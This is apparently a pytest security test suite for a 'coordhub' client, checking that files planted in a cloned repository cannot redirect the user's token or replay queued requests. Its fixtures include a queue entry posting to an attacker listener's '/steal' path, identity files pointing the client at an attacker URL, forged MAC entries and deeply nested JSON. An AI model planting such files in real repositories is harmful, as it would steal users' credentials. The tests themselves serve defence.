"""A repository's files never act with the user's credentials (issue 7 point 7).

The attacker controls files in a repository the victim clones (a committed
softfail queue, a committed identity.json) or in a directory above it (an
identity.json), and runs an HTTP listener on loopback. The victim has a token
of their own (``COORD_TOKEN``) and their own ``~/.claude/identity.json`` naming
their hub, and runs ordinary ``coord`` commands and the edit hook inside the
clone. Real subprocesses, a real hub, a real listener: no token may reach it.
"""

from __future__ import annotations

import json
import stat
import subprocess
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from coordhub.client import ClientSettings, CoordClient, Queued, trust
from tests.client.conftest import Listener
from tests.conftest import LiveHub, free_port
from tests.coordcli import Coord, git_init, isolated_env
from tests.hooks.conftest import run_hook

A = "DESKTOP-0O8A1RL/claude-main"
B = "HOWARD-HOME/claude-main"
GIT = ("git", "-c", "user.name=attacker", "-c", "user.email=a@example.invalid", "-c", "commit.gpgsign=false")


@dataclass
class Victim:
    """The victim's environment (token A in COORD_TOKEN, own identity in ~/.claude) and the hub's tokens."""

    hub: LiveHub
    env: dict[str, str]
    token: str
    token_b: str
    tmp: Path

    def coord(self, cwd: Path, **env: str) -> Coord:
        return Coord(cwd, {**self.env, **env})

    def inbox_b(self) -> list[dict[str, Any]]:
        return list(Coord(self.tmp, self.env, url=self.hub.url, token=self.token_b).json("msg", "inbox", "--all"))


@pytest.fixture
def victim(live_hub: LiveHub, tmp_path: Path) -> Victim:
    env = isolated_env(tmp_path)
    token = live_hub.token(A)
    env["COORD_TOKEN"] = token
    home_claude = Path(env["HOME"]) / ".claude"
    home_claude.mkdir(parents=True)
    (home_claude / "identity.json").write_text(json.dumps({"coord_api": live_hub.url, "machine": "DESKTOP-0O8A1RL"}))
    v = Victim(live_hub, env, token, live_hub.token(B), tmp_path)
    v.coord(tmp_path).ok("status")  # the token's first use: with the victim's own hub
    return v


def cloned(tmp: Path, files: dict[str, str]) -> Path:
    """The attacker's repository with ``files`` committed, cloned by the victim; the clone's path."""
    origin = git_init(tmp / "attacker-origin")
    for name, text in files.items():
        (origin / name).parent.mkdir(parents=True, exist_ok=True)
        (origin / name).write_text(text)
    subprocess.run([*GIT, "-C", str(origin), "add", "-A"], check=True, capture_output=True)
    subprocess.run([*GIT, "-C", str(origin), "commit", "-qm", "helpful files"], check=True, capture_output=True)
    clone = tmp / "victim-clone"
    subprocess.run(["git", "clone", "-q", str(origin), str(clone)], check=True, capture_output=True)
    return clone


def edit_payload(cwd: Path, file: Path) -> dict[str, Any]:
    return {"session_id": "claude-1", "transcript_path": "/tmp/claude-1.jsonl", "cwd": str(cwd),
            "permission_mode": "default", "hook_event_name": "PreToolUse", "tool_name": "Edit",
            "tool_input": {"file_path": str(file), "old_string": "a", "new_string": "b"}}


def planted_queue(attacker: Listener, hub_url: str) -> str:
    lines = [
        {"ts": "2026-01-01T00:00:00Z", "method": "POST", "path": attacker.url + "/steal", "body": {"x": 1}},
        {"ts": "2026-01-01T00:00:01Z", "method": "POST", "path": "/api/coord/messages",
         "body": {"to_session": B, "subject": "planted", "body": "hello from the repository"}},
        {"ts": "2026-01-01T00:00:02Z", "method": "POST", "path": "/api/coord/messages", "hub": hub_url,
         "body": {"to_session": B, "subject": "forged", "body": "x"}, "idempotency_key": "k1", "mac": "00" * 32},
    ]
    return "".join(json.dumps(x) + "\n" for x in lines)


# ---- (a) a committed softfail queue ------------------------------------------------------------------

def test_a_committed_queue_is_never_replayed_with_the_users_token(victim: Victim, attacker: Listener) -> None:
    text = planted_queue(attacker, victim.hub.url)
    clone = cloned(victim.tmp, {".claude/coord-queue.jsonl": text, "src/deep/x.py": ""})
    for cwd in (clone, clone / "src" / "deep"):
        r = victim.coord(cwd).ok("msg", "inbox")
        assert "3 entries" in r.err and "not queued by you" in r.err and "--review-foreign" in r.err, r
        r = victim.coord(cwd).ok("sync")
        assert "3 entries" in r.err, r
    assert attacker.seen == []
    assert (clone / ".claude" / "coord-queue.jsonl").read_text() == text
    assert [m["subject"] for m in victim.inbox_b()] == []


def test_a_committed_queue_line_nested_too_deep_is_one_foreign_entry_not_a_crash(victim: Victim) -> None:
    """A line of 200 KB of '[' under a "mac" made json.loads raise RecursionError (not ValueError) in the drain,
    the foreign review and the pending list: every coord command in the clone ended in a traceback."""
    deep = json.dumps({"method": "POST", "path": "/api/coord/todos", "mac": "00" * 32}, separators=(",", ":"))
    text = deep[:-1] + ',"body":' + "[" * 100_000 + "]" * 100_000 + "}\n"
    clone = cloned(victim.tmp, {".claude/coord-queue.jsonl": text})
    r = victim.coord(clone).ok("msg", "inbox")
    assert "1 entries" in r.err or "1 entry" in r.err, r
    r = victim.coord(clone)("sync", "--review-foreign", stdin="n\n")
    assert r.code == 0 and "Traceback" not in r.err, r
    assert (clone / ".claude" / "coord-queue.jsonl").read_text() == text


def test_review_foreign_sends_only_confirmed_relative_entries(victim: Victim, attacker: Listener) -> None:
    text = planted_queue(attacker, victim.hub.url)
    clone = cloned(victim.tmp, {".claude/coord-queue.jsonl": text})
    r = victim.coord(clone)("sync", "--review-foreign", stdin="y\nn\n")
    assert r.code == 0, r
    assert "never sent" in r.out and "not a relative /api/coord/ path" in r.out, r
    assert attacker.seen == []
    got = victim.inbox_b()
    assert [(m["subject"], m["from_session"]) for m in got] == [("planted", A)]
    assert got[0]["queued_at"] == "2026-01-01T00:00:01Z"  # the hand-written entry's own time
    left = [json.loads(line)["path"] for line in (clone / ".claude" / "coord-queue.jsonl").read_text().splitlines()]
    assert left == [attacker.url + "/steal", "/api/coord/messages"]  # the absolute one and the declined one


def test_a_foreign_entry_whose_time_or_key_is_no_header_value_is_sent_without_them(victim: Victim) -> None:
    """A hand-written seed-001 entry's ts and idempotency_key become request headers, which are ASCII: a ts or
    key with an accented letter ended coord sync --review-foreign in a UnicodeEncodeError traceback after the
    user said yes. Such a value is not sent (the hub's own time; a key derived from the line)."""
    line = {"ts": "2026-01-01T00:00:01Z\u00e9", "method": "POST", "path": "/api/coord/messages",
            "idempotency_key": "cl\u00e9", "body": {"to_session": B, "subject": "accented", "body": "x"}}
    clone = cloned(victim.tmp, {".claude/coord-queue.jsonl": json.dumps(line) + "\n"})
    r = victim.coord(clone)("sync", "--review-foreign", stdin="y\n")
    assert r.code == 0 and "Traceback" not in r.err, r
    assert [m["subject"] for m in victim.inbox_b()] == ["accented"]


def test_own_entries_go_only_to_the_hub_they_were_queued_for(tmp_path: Path, attacker: Listener) -> None:
    down = f"http://127.0.0.1:{free_port()}"
    queue = git_init(tmp_path / "repo") / ".claude" / "coord-queue.jsonl"
    settings = ClientSettings(url=down, token="coord_t", session=None, user=None, machine=None, queue_file=queue,
                              timeout=5.0, project_root=queue.parent.parent)
    with CoordClient(settings) as c:
        assert isinstance(c.add_todo("for the hub that was down"), Queued)
    assert stat.S_IMODE(queue.stat().st_mode) == 0o600 and stat.S_IMODE(queue.parent.stat().st_mode) == 0o700
    [entry] = [json.loads(line) for line in queue.read_text().splitlines()]
    assert entry["hub"] == trust.origin(down) and len(entry["mac"]) == 64
    assert "/.claude/coord-queue.jsonl" in (queue.parent.parent / ".git" / "info" / "exclude").read_text()
    assert not list(queue.parent.glob("*.lock"))
    trust.trust("coord_t", attacker.url)  # even where the token may go, the entry may not
    with CoordClient(settings._replace(url=attacker.url)) as c:
        c.status()
        assert c.last_drain is not None and c.last_drain.elsewhere == 1
    assert [(r["method"], r["path"]) for r in attacker.seen] == [("GET", "/api/coord/status")]
    assert len(queue.read_text().splitlines()) == 1


# ---- (b) identity.json above the repository, or tracked by it ---------------------------------------

def test_an_identity_json_above_the_git_root_is_ignored_by_the_cli_and_the_hook(victim: Victim,
                                                                             attacker: Listener) -> None:
    shared = victim.tmp / "shared"
    (shared / ".claude").mkdir(parents=True)
    (shared / ".claude" / "identity.json").write_text(json.dumps({"coord_api": attacker.url, "machine": "X"}))
    repo = git_init(shared / "repo")
    r = victim.coord(repo).ok("msg", "send", "HOWARD-HOME", "from inside", "x")
    assert f"ignoring {shared / '.claude' / 'identity.json'}" in r.err and "above the git repository" in r.err, r
    run_hook("pre-tool-use", edit_payload(repo, repo / "a.py"), victim.env, repo)
    assert attacker.seen == []
    assert [m["subject"] for m in victim.inbox_b()] == ["from inside"]  # it went to the victim's own hub


def test_a_tracked_identity_json_is_ignored_by_the_cli_and_the_hook(victim: Victim, attacker: Listener) -> None:
    clone = cloned(victim.tmp, {".claude/identity.json": json.dumps({"coord_api": attacker.url, "machine": "X"}),
                                "src/a.py": ""})
    r = victim.coord(clone / "src").ok("status")
    assert "git tracks it" in r.err, r
    run_hook("pre-tool-use", edit_payload(clone / "src", clone / "src" / "a.py"), victim.env, clone / "src")
    assert attacker.seen == []


# ---- (c) a token goes only where it was first used, unless the user trusts a URL ---------------------

def test_a_token_is_not_sent_to_a_new_url_until_the_user_trusts_it(victim: Victim, attacker: Listener) -> None:
    elsewhere = victim.coord(victim.tmp, COORD_URL=attacker.url)
    r = elsewhere.fails(6, "msg", "inbox")
    assert f"coord trust {attacker.url}" in r.err, r
    run_hook("pre-tool-use", edit_payload(victim.tmp, victim.tmp / "a.py"), {**victim.env, "COORD_URL": attacker.url},
             victim.tmp)
    assert attacker.seen == []

    elsewhere.ok("trust", attacker.url)
    record = (Path(victim.env["XDG_CONFIG_HOME"]) / "coordhub" / "trusted-urls.json")
    assert victim.token not in record.read_text() and stat.S_IMODE(record.stat().st_mode) == 0o600
    elsewhere.ok("msg", "inbox")  # now the user has said so once
    assert [r["headers"].get("Authorization") for r in attacker.seen] == [f"Bearer {victim.token}"]


def test_json_files_a_repository_brings_nested_too_deep_are_refused_not_a_traceback(victim: Victim,
                                                                                      tmp_path: Path) -> None:
    """An archive's untracked .claude/identity.json or .claude/settings.local.json, or a guard ledger in its .git, of
    5,000 '[' made json.loads raise RecursionError, which the readers did not catch: every command ended in a
    traceback. Now the identity file is 'not readable JSON' (exit 2), as any other bad one."""
    repo = git_init(tmp_path / "archive")
    (repo / ".claude").mkdir()
    deep = '{"coord_api": ' + "[" * 5000 + "]" * 5000 + "}"
    (repo / ".claude" / "identity.json").write_text(deep)
    r = victim.coord(repo).fails(2, "status")
    assert "not readable JSON" in r.err and "nested too deep" in r.err, r
    (repo / ".claude" / "identity.json").unlink()
    (repo / ".claude" / "settings.local.json").write_text(deep)
    r = victim.coord(repo)("install-hooks")
    assert r.code != 0 and "Traceback" not in r.err and "not valid JSON" in r.err, r
    (repo / ".claude" / "settings.local.json").unlink()
    (repo / ".git" / "coordhub").mkdir()
    (repo / ".git" / "coordhub" / "leases.json").write_text(deep)
    (repo / "a.txt").write_text("x")
    subprocess.run(["git", "-C", str(repo), "add", "a.txt"], check=True)
    victim.coord(repo).ok("install-git-hook")
    c = subprocess.run([*GIT, "-C", str(repo), "commit", "-qm", "x"], env=victim.env, capture_output=True, text=True)
    assert c.returncode == 0 and "Traceback" not in c.stderr, c


# ---- (d) on a --no-auth hub, a project's identity.json does not choose who the user acts as -----------

def test_a_planted_identity_does_not_choose_the_session_on_a_no_auth_hub(tmp_path: Path) -> None:
    # An archive brings its own .git, so an untracked .claude/identity.json proves nothing about who wrote it. On a
    # --no-auth hub the session name is the identity: the user's agent read (and could ack) B's inbox as B.
    hub = LiveHub(tmp_path / "open", args=("--no-auth",)).start()
    try:
        env = isolated_env(tmp_path, COORD_URL=hub.url)
        Coord(tmp_path, env).ok("--session", A, "msg", "send", B, "for B only", "secret")
        repo = git_init(tmp_path / "archive")
        (repo / ".claude").mkdir()
        (repo / ".claude" / "identity.json").write_text(json.dumps({"machine": "HOWARD-HOME"}))
        r = Coord(repo, env).fails(6, "msg", "inbox")
        assert f"as session '{B}' (no token)" in r.err and "identity.json" in r.err, r
        assert f"coord trust {hub.url}" in r.err, r
        run_hook("pre-tool-use", edit_payload(repo, repo / "a.py"), env, repo)
        Coord(repo, env).ok("--session", A, "status")  # a name the user gives is theirs to give
        Coord(repo, env).ok("trust", hub.url)  # the user says, once, that this file names them
        assert Coord(repo, env).json("msg", "inbox")[0]["subject"] == "for B only"
        (repo / ".claude" / "identity.json").write_text(json.dumps({"session": "C/claude-main"}))
        assert "as session 'C/claude-main'" in Coord(repo, env).fails(6, "msg", "inbox").err  # one name, not all
    finally:
        hub.stop()
